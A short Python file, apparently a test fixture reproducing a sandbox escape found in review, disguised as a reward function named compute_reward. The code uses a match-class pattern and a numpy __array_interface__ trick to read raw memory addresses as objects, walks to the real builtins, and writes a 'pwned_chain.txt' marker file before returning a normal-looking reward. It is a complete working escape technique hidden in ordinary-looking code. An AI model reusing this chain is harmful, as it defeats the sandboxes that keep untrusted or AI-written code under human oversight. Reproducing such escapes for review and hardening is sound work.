"""The escape found in review: a match class pattern reads an exception's ``__dict__``, an
``__array_interface__`` planted there turns raw addresses into objects, and the chain walks
from the reward's globals to the sandbox module's globals and the real ``open``. WATCH is
replaced by a folder path before use."""

import numpy as np


def _obj_at(e, d, addr):
    d["__array_interface__"] = {"shape": (1,), "typestr": "|O", "data": (addr, True), "version": 3}
    return np.asarray(e)[0]


def _globals_of(e, d, fn):
    addr = int(str(fn).split(" at ")[1].rstrip(">"), 16)
    return _obj_at(e, d, addr + 16)  # PyFunctionObject: refcnt, type, func_globals


def compute_reward(obs, action, next_obs, info):
    try:
        raise ValueError("x")
    except ValueError as e:
        match e:
            case ValueError(__dict__=d):
                g = _globals_of(e, d, compute_reward)
                imp = g["__builtins__"]["__import__"]
                real = _globals_of(e, d, imp)["builtins"]
                real.open(WATCH + "/pwned_chain.txt", "w").write("escaped")  # noqa: F821
    r = next_obs[:, 0]
    return r, {"r": r}
